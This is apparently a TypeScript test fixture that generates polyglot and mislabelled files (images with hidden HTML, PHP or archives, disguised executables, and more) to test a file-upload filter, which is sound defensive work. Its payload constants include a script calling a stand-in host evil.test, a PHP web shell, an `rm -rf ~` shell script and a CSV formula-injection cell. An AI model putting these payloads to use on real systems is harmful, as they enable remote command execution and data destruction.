// Files that are two things at once, or not what they say. Each holds the canary where its second
// nature is. `refused` names what must be objected to; what is not refused must be harmless to serve.
import sharp from 'sharp'
import { makePdf } from './pdfs.ts'
import { makePng, pngChunk } from './pictures.ts'

export type Polyglot = {
  name: string
  fileName: string
  mimeType: string
  bytes: Buffer
  refused?: 'content' | 'mimeType' | 'fileName'
}

export const canary = 'POLYGLOT-CANARY'

const script = `<script>/*${canary}*/fetch('//evil.test')</script>`
const html = `<!doctype html><html><body>${script}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>/*${canary}*/</script></svg>`
const php = `<?php /*${canary}*/ system($_GET['c']); ?>`
const shell = `#!/bin/sh\n# ${canary}\nrm -rf ~\n`
const dot = { width: 4, height: 4, bitsPerPixel: 24 } as const

const join = (...parts: (string | Buffer)[]) =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
const zip = join('PK\x03\x04', Buffer.alloc(26), canary, 'PK\x05\x06', Buffer.alloc(18))

type Row = [
  name: string,
  fileName: string,
  mimeType: string,
  bytes: Buffer | string,
  refused?: Polyglot['refused'],
]

export async function makePolyglots(): Promise<Polyglot[]> {
  const rows: Row[] = [
    ...(await listPictures()),
    ...listDisguisedPictures(),
    ...listPdfs(),
    ...listTexts(),
    ...listPrograms(),
    ...listArchives(),
    ...listDocuments(),
  ]
  return rows.map(([name, fileName, mimeType, content, refused]) => ({
    name,
    fileName,
    mimeType,
    bytes: Buffer.from(content as string),
    ...(refused !== undefined && { refused }),
  }))
}

/** Real pictures with something else in or behind them: taken, and shown without it. */
async function listPictures(): Promise<Row[]> {
  const plain = sharp({ create: { width: 4, height: 4, channels: 3, background: '#336699' } })
  const png = makePng(dot)
  const jpeg = await plain.clone().jpeg().toBuffer()
  const gif = await plain.clone().gif().toBuffer()
  const webp = await plain.clone().webp().toBuffer()
  const comment = join(hex('fffe'), hex((php.length + 2).toString(16).padStart(4, '0')), php)
  const exif = await plain
    .clone()
    .withExif({ IFD0: { ImageDescription: html } })
    .jpeg()
    .toBuffer()
  const xmp = await plain.clone().withXmp(`<x:xmpmeta xmlns:x="a">${script}</x:xmpmeta>`).webp()
  const gifHtml = join(gif.subarray(0, -1), hex('21fe'), hex('0f'), canary, hex('00'), '\x3b')
  return [
    ['GIF and JAR', 'a.gif', 'image/gif', join(gif, zip)],
    ['GIF with a page in its comment', 'a.gif', 'image/gif', join(gifHtml, html)],
    ['GIF and script', 'a.gif', 'image/gif', `GIF89a/*\0*/=1;//${canary}`],
    ['PNG and ZIP', 'a.png', 'image/png', join(png, zip)],
    ['PNG and script', 'a.png', 'image/png', join(png, script)],
    [
      'PNG with a page in its text',
      'a.png',
      'image/png',
      makePng(dot, [pngChunk('tEXt', join('Title\0', html))]),
    ],
    [
      'PNG with a page in a chunk of its own',
      'a.png',
      'image/png',
      makePng(dot, [pngChunk('heLL', Buffer.from(html))]),
    ],
    ['PNG of a billion pixels', 'a.png', 'image/png', join(lieAboutSize(png), canary)],
    ['JPEG and PHP', 'a.jpg', 'image/jpeg', join(jpeg.subarray(0, 2), comment, jpeg.subarray(2))],
    ['JPEG and page', 'a.jpeg', 'image/jpeg', join(jpeg, html)],
    ['JPEG and JAR', 'a.jpg', 'image/jpg', join(jpeg, zip)],
    ['JPEG with a page in its EXIF', 'a.jpg', 'image/jpeg', exif],
    ['JPEG that is a script', 'a.jpg', 'image/jpeg', join(hex('ffd8ff'), `=1;//${canary}`)],
    ['WebP and page', 'a.webp', 'image/webp', join(webp, html)],
    ['WebP with a script in its XMP', 'a.webp', 'image/webp', await xmp.toBuffer()],
    ['WebP in name alone', 'a.webp', 'image/webp', `RIFF\x10\0\0\0WEBPJUNK${canary}`],
  ]
}

function lieAboutSize(png: Buffer): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(40_000, 0)
  header.writeUInt32BE(40_000, 4)
  header.set([8, 2], 8)
  return join(png.subarray(0, 8), pngChunk('IHDR', header), png.subarray(33))
}

/** Other things that say they are pictures. */
function listDisguisedPictures(): Row[] {
  const heic = join(hex('00000018'), 'ftypheic', hex('00000000'), 'mif1heic', canary)
  return [
    ['SVG as PNG', 'a.png', 'image/png', svg, 'content'],
    ['SVG', 'a.svg', 'image/svg+xml', svg],
    ['page as GIF', 'a.gif', 'image/gif', html, 'content'],
    ['BMP as PNG', 'a.png', 'image/png', join('BM', Buffer.alloc(52), canary), 'content'],
    ['HEIC as JPEG', 'a.jpg', 'image/jpeg', heic, 'content'],
    ['HEIC', 'a.heic', 'image/heic', heic],
    ['sound as WebP', 'a.webp', 'image/webp', `RIFF\x10\0\0\0WAVEfmt ${canary}`, 'content'],
    ['PNG as JPEG', 'a.jpg', 'image/jpeg', makePng(dot), 'content'],
    ['PNG called a page', 'a.html', 'image/png', makePng(dot), 'mimeType'],
    ['PNG as another type', 'a.bin', 'application/x-thing', makePng(dot), 'content'],
    ['nothing as PNG', 'a.png', 'image/png', '', 'content'],
    ['icon', 'a.ico', 'image/x-icon', join(hex('00000100'), canary)],
    ['film with a page in it', 'a.mp4', 'video/mp4', join(hex('00000018'), 'ftypisom', html)],
  ]
}

function listPdfs(): Row[] {
  const pdf = makePdf(1)
  const type = 'application/pdf'
  return [
    ['PDF and page', 'a.pdf', type, join(pdf, html)],
    ['PDF and ZIP', 'a.pdf', type, join(pdf, zip)],
    ['PDF that is a page', 'a.pdf', type, `%PDF-1.7\n${html}`],
    ['PDF behind other bytes', 'a.pdf', type, join(Buffer.alloc(1_000, ' '), pdf), 'content'],
    ['page as PDF', 'a.pdf', type, html, 'content'],
    ['PDF as text', 'a.txt', 'text/plain', `%PDF-1.7\n${canary}`, 'content'],
    ['nothing as PDF', 'a.pdf', type, '', 'content'],
  ]
}

function listTexts(): Row[] {
  const utf16 = Buffer.from(`\ufeff${html}`, 'utf16le')
  return [
    ['page as text', 'a.txt', 'text/plain', html],
    ['page as text behind a mark', 'a.txt', 'text/plain', Buffer.from(`\ufeff${html}`)],
    ['page as CSV', 'a.csv', 'text/csv', `a,b\n=cmd|' /C calc'!A0,${html}\n`],
    ['page', 'a.html', 'text/html', html],
    ['page as other bytes', 'a.bin', 'application/x-thing', html],
    ['page in UTF-16 as text', 'a.txt', 'text/plain', utf16, 'content'],
    ['UTF-16 without a mark', 'a.txt', 'text/plain', Buffer.from(html, 'utf16le'), 'content'],
    ['page in UTF-7', 'a.txt', 'text/plain', `+ADw-script+AD4-${canary}+ADw-/script+AD4-`],
    ['script as GIF', 'a.js', 'text/javascript', `GIF89a=1;//${canary}`, 'content'],
    ['text as WebP', 'a.txt', 'text/plain', `RIFFtextWEBP${canary}`, 'content'],
    ['saved page', 'a.mht', 'multipart/related', `Content-Type: text/html\r\n\r\n${html}`],
    ['shell script as text', 'a.txt', 'text/plain', shell],
    ['shell script', 'a.sh', 'text/x-sh', shell],
    ['shell script as bytes', 'a.bin', 'application/octet-stream', shell],
    ['shortcut as text', 'a.txt', 'text/plain', `[InternetShortcut]\nURL=file://${canary}\n`],
    ['shortcut', 'a.url', 'text/plain', `[InternetShortcut]\nURL=file://${canary}\n`, 'fileName'],
    ['application of pages', 'a.hta', 'text/html', html, 'fileName'],
    ['nothing as text', 'a.txt', 'text/plain', ''],
    ['nothing as bytes', 'a.bin', 'application/octet-stream', ''],
  ]
}

function listPrograms(): Row[] {
  const bytes = 'application/octet-stream'
  const mz = join('MZ\x90\0', Buffer.alloc(60), canary)
  const elf = join('\x7fELF\x02\x01\x01', Buffer.alloc(9), canary)
  const lnk = join(hex('4c000000 01140200 00000000 c0000000 00000046'), canary)
  return [
    ['Windows program as text', 'a.txt', 'text/plain', mz, 'content'],
    ['Windows program as bytes', 'a.bin', bytes, mz, 'content'],
    ['Windows program as JPEG', 'a.jpg', 'image/jpeg', mz, 'content'],
    ['text that begins like one', 'a.txt', 'text/plain', `MZ ${canary}`],
    ['program behind a harmless name', 'a.txt.exe', 'text/plain', canary, 'fileName'],
    ['Linux program as bytes', 'a.bin', bytes, elf, 'content'],
    ['Linux program as PNG', 'a.png', 'image/png', elf, 'content'],
    ['Mac program as bytes', 'a.bin', bytes, join(hex('cffaedfe'), canary), 'content'],
    ['Java class', 'a.thing', 'application/x-thing', join(hex('cafebabe'), canary), 'content'],
    ['WebAssembly as bytes', 'a.bin', bytes, join('\0asm\x01\0\0\0', canary), 'content'],
    ['shortcut of Windows', 'a.lnk', bytes, lnk, 'fileName'],
    ['shortcut of Windows as bytes', 'a.bin', bytes, lnk, 'content'],
    ['program that says so', 'a.bin', 'application/x-msdownload', mz, 'mimeType'],
  ]
}

function listArchives(): Row[] {
  const bytes = 'application/octet-stream'
  const gzip = join(hex('1f8b0800'), Buffer.alloc(6), canary)
  const tar = join('a.sh', Buffer.alloc(253), 'ustar\x0000', Buffer.alloc(247), canary)
  const disk = join(Buffer.alloc(32_769), 'CD001\x01', zip)
  return [
    ['gzip as CSV', 'a.csv', 'text/csv', gzip, 'content'],
    ['gzip as bytes', 'a.bin', bytes, gzip, 'content'],
    ['tar as bytes', 'a.bin', bytes, tar, 'content'],
    ['tar as text', 'a.txt', 'text/plain', tar, 'content'],
    ['ZIP as bytes', 'a.bin', bytes, zip, 'content'],
    ['ZIP as PNG', 'a.png', 'image/png', zip, 'content'],
    ['ZIP behind other bytes', 'a.bin', bytes, join('junk', zip)],
    ['disk and ZIP', 'a.bin', bytes, disk],
    ['7z as bytes', 'a.bin', bytes, join(hex('377abcaf271c'), canary), 'content'],
    ['RAR as bytes', 'a.bin', bytes, join('Rar!\x1a\x07\0', canary), 'content'],
    ['archive that says so', 'a.bin', 'application/zip', zip, 'mimeType'],
  ]
}

function listDocuments(): Row[] {
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const macros = 'application/vnd.ms-word.document.macroenabled.12'
  return [
    ['document with macros', 'a.docm', word, zip, 'fileName'],
    ['document with macros that says so', 'a.docx', macros, zip, 'mimeType'],
    ['document with macros as one without', 'a.docx', word, zip],
    ['old document', 'a.doc', 'application/msword', join(hex('d0cf11e0a1b11ae1'), canary)],
    ['PostScript', 'a.ps', 'application/postscript', `%!PS\n(${canary}) run\n`],
  ]
}
